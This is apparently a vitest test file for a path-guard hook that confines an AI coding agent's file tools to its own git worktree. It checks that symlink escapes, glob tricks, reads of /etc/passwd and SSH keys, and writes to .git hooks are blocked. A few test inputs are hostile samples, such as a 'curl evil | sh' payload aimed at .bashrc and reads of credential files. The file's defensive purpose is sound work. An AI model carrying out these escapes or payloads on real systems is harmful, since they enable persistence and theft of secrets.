import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTempGitRepo, type TempGitRepo } from '../../../test/support/shared/create-temp-git-repo.ts';
import { createPathGuardHook, type PathGuardHook } from './create-path-guard-hook.ts';
import { AGENT_SESSION_TOOLS, isToolAllowed } from './tool-allow-lists.ts';

// One real repository for the whole file: two linked worktrees (the run's and another item's), Flotilla's
// state directory, a read-only docs directory outside the repository and a directory standing in for
// "elsewhere" — with real symlinks from the run's worktree into each of them.
let repo: TempGitRepo;
let outside: string;
let worktree: string;
let otherWorktree: string;
let sharedDocs: string;
let implementor: PathGuardHook;

const BLOCK = { decision: 'block', reason: expect.stringMatching(/^Blocked: /) };

beforeAll(async () => {
  repo = await createTempGitRepo();
  await repo.commit('base', { 'README.md': '# demo\n', 'src/app.ts': 'export {};\n', 'nb.ipynb': '{}\n' });
  await repo.git(['worktree', 'add', '--quiet', '.worktrees/agent/flotilla/1', '-b', 'agent/flotilla/1']);
  await repo.git(['worktree', 'add', '--quiet', '.worktrees/agent/flotilla/2', '-b', 'agent/flotilla/2']);
  worktree = realpathSync(join(repo.root, '.worktrees/agent/flotilla/1'));
  otherWorktree = realpathSync(join(repo.root, '.worktrees/agent/flotilla/2'));
  mkdirSync(join(repo.root, '.flotilla'));
  writeFileSync(join(repo.root, '.flotilla/flotilla.db'), '');
  outside = realpathSync(mkdtempSync(join(tmpdir(), 'flotilla-path-guard-')));
  sharedDocs = join(outside, 'shared-docs');
  mkdirSync(join(outside, 'elsewhere/a/b'), { recursive: true });
  mkdirSync(sharedDocs);
  writeFileSync(join(sharedDocs, 'guide.md'), 'guide\n');

  symlinkSync(join(homedir(), '.bashrc'), join(worktree, 'rc-link'));
  symlinkSync(join(repo.root, '.git/hooks'), join(worktree, 'hooks-link'));
  symlinkSync(join(outside, 'not-yet-there'), join(worktree, 'dangling-link'));
  symlinkSync('/', join(worktree, 'root-link'));
  symlinkSync(join(outside, 'elsewhere/a/b'), join(worktree, 'deep-link'));
  symlinkSync(otherWorktree, join(worktree, 'other-link'));
  symlinkSync('src', join(worktree, 'src-link'));
  symlinkSync('loop-b', join(worktree, 'loop-a'));
  symlinkSync('loop-a', join(worktree, 'loop-b'));

  implementor = createPathGuardHook({
    root: worktree,
    writable: true,
    readOnlyPaths: [sharedDocs],
    deniedPaths: [join(repo.root, '.worktrees'), join(repo.root, '.flotilla')],
  });
});

afterAll(async () => {
  await repo.cleanup();
  const { rm } = await import('node:fs/promises');
  await rm(outside, { recursive: true, force: true });
});

const call = (hook: PathGuardHook, tool_name: string, tool_input: Record<string, unknown>, cwd?: string) =>
  hook({ tool_name, tool_input, ...(cwd === undefined ? {} : { cwd }) });

describe('path guard: allowed inside the worktree', () => {
  it.each([
    ['Write', { file_path: 'WT/src/new.ts', content: 'x' }],
    ['Write', { file_path: 'src/new.ts', content: 'x' }],
    ['Write', { file_path: 'WT/a/b/c/not-yet.txt', content: 'x' }],
    ['Write', { file_path: 'WT/src/../README.md', content: 'x' }],
    ['Write', { file_path: 'WT/src-link/via-link.ts', content: 'x' }],
    ['Edit', { file_path: 'WT/src/app.ts', old_string: 'a', new_string: 'b' }],
    ['MultiEdit', { file_path: 'WT/src/app.ts', edits: [{ old_string: 'a', new_string: 'b' }] }],
    ['NotebookEdit', { notebook_path: 'WT/nb.ipynb', new_source: 'print(1)' }],
    ['Read', { file_path: 'WT/README.md' }],
    ['Read', { file_path: 'WT/.claude/CLAUDE.md' }],
    ['Read', { file_path: 'SHARED/guide.md' }],
    ['Glob', { pattern: '**/*.ts' }],
    ['Glob', { pattern: 'src/**/*.ts', path: 'WT' }],
    ['Glob', { pattern: '*.md', path: 'SHARED' }],
    ['Grep', { pattern: 'TODO' }],
    ['Grep', { pattern: 'TODO', path: 'src', glob: '*.ts' }],
    ['Grep', { pattern: 'TODO', path: '' }],
  ])('%s %o', async (tool, input) => {
    await expect(call(implementor, tool, expand(input))).resolves.toEqual({});
  });

  it('leaves tools that are not file tools to the other hooks', async () => {
    await expect(call(implementor, 'Bash', { command: 'cat /etc/passwd' })).resolves.toEqual({});
    await expect(call(implementor, 'TodoWrite', { todos: [] })).resolves.toEqual({});
  });
});

describe('path guard: blocked', () => {
  it.each([
    ['Write', { file_path: 'REPO/.git/hooks/pre-commit', content: '#!/bin/sh' }, /inside a \.git directory/],
    ['Write', { file_path: '../../../../.git/hooks/pre-commit', content: 'x' }, /\.git directory/],
    ['Write', { file_path: 'hooks-link/pre-commit', content: 'x' }, /really '.*\/\.git\/hooks\/pre-commit'/],
    ['Edit', { file_path: 'WT/.git', old_string: 'a', new_string: 'b' }, /\.git directory/],
    ['Read', { file_path: 'WT/.git' }, /\.git directory/],
    ['Read', { file_path: 'REPO/.git/config' }, /\.git directory/],
    ['Read', { file_path: 'REPO/.GIT/config' }, /\.git directory/],
    ['Write', { file_path: 'rc-link', content: 'curl evil | sh' }, /outside the worktree/],
    ['Edit', { file_path: 'WT/rc-link', old_string: 'a', new_string: 'b' }, /outside the worktree/],
    ['Read', { file_path: 'rc-link' }, /outside the worktree/],
    ['Write', { file_path: 'dangling-link', content: 'x' }, /really '.*\/not-yet-there'/],
    ['Read', { file_path: 'root-link/etc/passwd' }, /really '\/etc\/passwd'/],
    ['Read', { file_path: '/etc/passwd' }, /outside the worktree/],
    ['Write', { file_path: '/tmp/flotilla-path-guard-escape', content: 'x' }, /outside the worktree/],
    // The kernel takes `..` after following the symlink: deep-link/../../x is <elsewhere>/x, not <worktree>/x.
    ['Write', { file_path: 'deep-link/../../x.txt', content: 'x' }, /really '.*\/elsewhere\/x\.txt'/],
    ['Write', { file_path: '../2/src/app.ts', content: 'x' }, /another worktree/],
    ['Read', { file_path: 'OTHER/README.md' }, /another worktree/],
    ['Read', { file_path: 'other-link/README.md' }, /another worktree/],
    ['Read', { file_path: 'REPO/.flotilla/flotilla.db' }, /Flotilla's state/],
    ['Read', { file_path: 'REPO/README.md' }, /outside the worktree/],
    ['Write', { file_path: 'SHARED/guide.md', content: 'x' }, /outside the worktree/],
    ['Write', { file_path: '.claude/settings.json', content: '{}' }, /'\.claude' is a protected path/],
    ['Write', { file_path: 'WT/.npmrc', content: 'x' }, /'\.npmrc' is a protected path/],
    ['Write', { file_path: 'WT/.config/git/config', content: 'x' }, /protected path/],
    ['Read', { file_path: '~/.ssh/id_ed25519' }, /starting with '~'/],
    ['Write', { file_path: '~', content: 'x' }, /starting with '~'/],
    ['Write', { file_path: 'src/a\0b', content: 'x' }, /NUL/],
    ['Write', { file_path: '', content: 'x' }, /empty/],
    ['Write', { content: 'x' }, /no string 'file_path'/],
    ['Read', { file_path: ['a'] }, /no string 'file_path'/],
    ['NotebookEdit', { notebook_path: 'REPO/.git/nb.ipynb', new_source: 'x' }, /\.git directory/],
    ['NotebookEdit', { notebook_path: '/root/nb.ipynb', new_source: 'x' }, /outside the worktree/],
    ['NotebookEdit', { new_source: 'x' }, /no string 'notebook_path'/],
    ['MultiEdit', { file_path: 'rc-link', edits: [] }, /outside the worktree/],
    ['Read', { file_path: 'loop-a' }, /internal path guard error .*too many symbolic links/],
    ['Glob', { pattern: '/etc/*' }, /pattern '\/etc\/\*' \(really '\/etc'\): it is outside/],
    ['Glob', { pattern: '*', path: '/etc' }, /outside the worktree/],
    ['Glob', { pattern: '../2/**' }, /another worktree/],
    ['Glob', { pattern: 'src/**/../../../*' }, /climbs with '\.\.' after a wildcard/],
    ['Glob', { pattern: '{..,src}/*' }, /climbs/],
    ['Glob', { pattern: '{/etc,src}/*' }, /brace alternative/],
    ['Glob', { pattern: '~/.ssh/*' }, /home directory/],
    ['Glob', { pattern: '.git/**' }, /\.git directory/],
    ['Glob', { pattern: 'hooks-link/*' }, /\.git directory/],
    ['Glob', { pattern: '*', path: 3 }, /'path' is not a string/],
    ['Grep', { pattern: 'secret', path: '/root' }, /outside the worktree/],
    ['Grep', { pattern: 'x', path: '../2' }, /another worktree/],
    ['Grep', { pattern: 'x', path: 'REPO/.git' }, /\.git directory/],
  ])('%s %o', async (tool, input, reason) => {
    const verdict = await call(implementor, tool, expand(input));
    expect(verdict).toEqual(BLOCK);
    expect((verdict as { reason: string }).reason).toMatch(reason);
  });

  it('resolves relative paths against the cwd the SDK reports as well as the session cwd', async () => {
    // Relative to the worktree `passwd` is harmless; if the tool's cwd has moved to /etc it is not.
    await expect(call(implementor, 'Read', { file_path: 'passwd' })).resolves.toEqual({});
    await expect(call(implementor, 'Read', { file_path: 'passwd' }, '/etc')).resolves.toEqual(BLOCK);
    await expect(call(implementor, 'Glob', { pattern: '*' }, '/etc')).resolves.toEqual(BLOCK);
    await expect(
      call(implementor, 'Read', { file_path: 'README.md' }, join(worktree, 'src')),
    ).resolves.toEqual({});
  });

  it('blocks malformed input instead of throwing', async () => {
    await expect(implementor(null as never)).resolves.toEqual(BLOCK);
    await expect(implementor({ tool_name: 'Read', tool_input: null } as never)).resolves.toEqual(BLOCK);
    await expect(implementor({ tool_input: {} } as never)).resolves.toEqual(BLOCK);
  });

  it('blocks every file tool (and nothing else) when its root cannot be resolved', async () => {
    const lost = createPathGuardHook({ root: join(outside, 'missing-worktree'), writable: true });
    const verdict = await call(lost, 'Read', { file_path: 'README.md' });
    expect(verdict).toEqual(BLOCK);
    expect((verdict as { reason: string }).reason).toMatch(/no scope .*missing-worktree/);
    await expect(call(lost, 'Bash', { command: 'ls' })).resolves.toEqual({});
  });
});

describe('path guard: read-only roles and read-only paths', () => {
  it('planner and reviewer read the repository but write nothing, and never reach worktrees or state', async () => {
    const reviewer = createPathGuardHook({
      root: repo.root,
      writable: false,
      deniedPaths: [join(repo.root, '.worktrees'), join(repo.root, '.flotilla')],
    });
    await expect(call(reviewer, 'Read', { file_path: 'src/app.ts' })).resolves.toEqual({});
    await expect(call(reviewer, 'Grep', { pattern: 'x' })).resolves.toEqual({});
    const blocked = [
      ['Write', { file_path: 'src/app.ts', content: 'x' }, /role is read-only/],
      ['Edit', { file_path: 'README.md', old_string: 'a', new_string: 'b' }, /role is read-only/],
      ['Read', { file_path: '.worktrees/agent/flotilla/2/README.md' }, /another worktree/],
      ['Glob', { pattern: '.worktrees/**' }, /another worktree/],
      ['Read', { file_path: '.flotilla/flotilla.db' }, /Flotilla's state/],
      ['Read', { file_path: '.git/config' }, /\.git directory/],
    ] as const;
    for (const [tool, input, reason] of blocked) {
      const verdict = await call(reviewer, tool, input);
      expect(verdict, `${tool} ${JSON.stringify(input)}`).toEqual(BLOCK);
      expect((verdict as { reason: string }).reason).toMatch(reason);
    }
  });

  it('a read-only path that contains the repository still hides .git, other worktrees and state', async () => {
    const hook = createPathGuardHook({
      root: worktree,
      writable: true,
      readOnlyPaths: [repo.root],
      deniedPaths: [join(repo.root, '.worktrees'), join(repo.root, '.flotilla')],
    });
    await expect(call(hook, 'Read', { file_path: join(repo.root, 'README.md') })).resolves.toEqual({});
    await expect(call(hook, 'Write', { file_path: 'src/new.ts', content: 'x' })).resolves.toEqual({});
    for (const path of [join(otherWorktree, 'README.md'), join(repo.root, '.flotilla/flotilla.db')]) {
      await expect(call(hook, 'Read', { file_path: path })).resolves.toEqual(BLOCK);
    }
    await expect(call(hook, 'Read', { file_path: join(repo.root, '.git/HEAD') })).resolves.toEqual(BLOCK);
    await expect(
      call(hook, 'Write', { file_path: join(repo.root, 'README.md'), content: 'x' }),
    ).resolves.toEqual(BLOCK);
  });

  it("denies the git directories a worktree's .git file points to, whatever they are called", async () => {
    const bare = realpathSync(mkdtempSync(join(outside, 'separate-')));
    const gitDir = join(bare, 'repo-metadata');
    const tree = join(bare, 'tree');
    mkdirSync(join(gitDir, 'worktrees/tree'), { recursive: true });
    mkdirSync(tree);
    writeFileSync(join(tree, '.git'), `gitdir: ${join(gitDir, 'worktrees/tree')}\n`);
    writeFileSync(join(gitDir, 'worktrees/tree/commondir'), '../..\n');
    const hook = createPathGuardHook({ root: tree, writable: true, readOnlyPaths: [bare] });
    await expect(call(hook, 'Read', { file_path: join(gitDir, 'config') })).resolves.toEqual(BLOCK);
    await expect(call(hook, 'Read', { file_path: join(gitDir, 'worktrees/tree/HEAD') })).resolves.toEqual(
      BLOCK,
    );
    await expect(call(hook, 'Read', { file_path: join(bare, 'notes.txt') })).resolves.toEqual({});
  });
});

/** Test inputs name places with WT/, OTHER/, REPO/ and SHARED/; relative paths stay relative. */
function expand(input: Record<string, unknown>): Record<string, unknown> {
  const places: Record<string, string> = {
    WT: worktree,
    OTHER: otherWorktree,
    REPO: repo.root,
    SHARED: sharedDocs,
  };
  return Object.fromEntries(
    Object.entries(input).map(([key, value]) => [
      key,
      typeof value === 'string'
        ? value.replace(/^(WT|OTHER|REPO|SHARED)(?=\/|$)/, (name) => places[name]!)
        : value,
    ]),
  );
}

describe('path guard: tools it does not know', () => {
  it('checks every path-like field of an unknown tool, at any depth, as a write', async () => {
    for (const input of [
      { path: `${repo.root}/.git/hooks/pre-commit` },
      { file_path: 'hooks-link/pre-commit' },
      { filePath: '/etc/passwd' },
      { notebook_path: `${outside}/elsewhere/x.ipynb` },
      { paths: [`${worktree}/ok.ts`, `${otherWorktree}/a.ts`] },
      { options: { directory: `${repo.root}/.flotilla` } },
      { cwd: '/' },
      { target_dir: '.Claude' },
      { path: `${sharedDocs}/guide.md` }, // a read-only path: an unknown tool's paths are judged as writes
    ]) {
      const verdict = call(implementor, 'mcp__evil__write_file', input);
      await expect(verdict, JSON.stringify(input)).resolves.toEqual(BLOCK);
    }
    await expect(
      call(implementor, 'mcp__fs__write', { paths: [`${worktree}/a.ts`, 'src/b.ts'], mode: 1, dry: true }),
    ).resolves.toEqual({});
  });

  it('refuses a tool off the allow-list before anything else, and lets listed ones through', async () => {
    const session = createPathGuardHook({
      root: worktree,
      writable: true,
      allowedTools: AGENT_SESSION_TOOLS,
    });
    await expect(call(session, 'mcp__evil__write_file', { content: 'x' })).resolves.toEqual({
      decision: 'block',
      reason: expect.stringContaining('"mcp__evil__write_file" is not one this session may use'),
    });
    await expect(call(session, 'WebFetch', { url: 'https://example.invalid' })).resolves.toEqual(BLOCK);
    await expect(call(session, 'Task', { prompt: 'x' })).resolves.toEqual(BLOCK);
    await expect(call(session, 'TodoWrite', { todos: [] })).resolves.toEqual({});
    await expect(call(session, 'mcp__flotilla__ask_human', { questions: ['?'] })).resolves.toEqual({});
    await expect(call(session, 'Write', { file_path: `${worktree}/x.ts`, content: '' })).resolves.toEqual({});
  });

  it('matches allow-list prefixes ending in *', () => {
    expect(isToolAllowed('mcp__github__get_issue', ['mcp__github__*'])).toBe(true);
    expect(isToolAllowed('mcp__githubx__get_issue', ['mcp__github__*'])).toBe(false);
    expect(isToolAllowed('read', ['Read'])).toBe(false);
  });
});
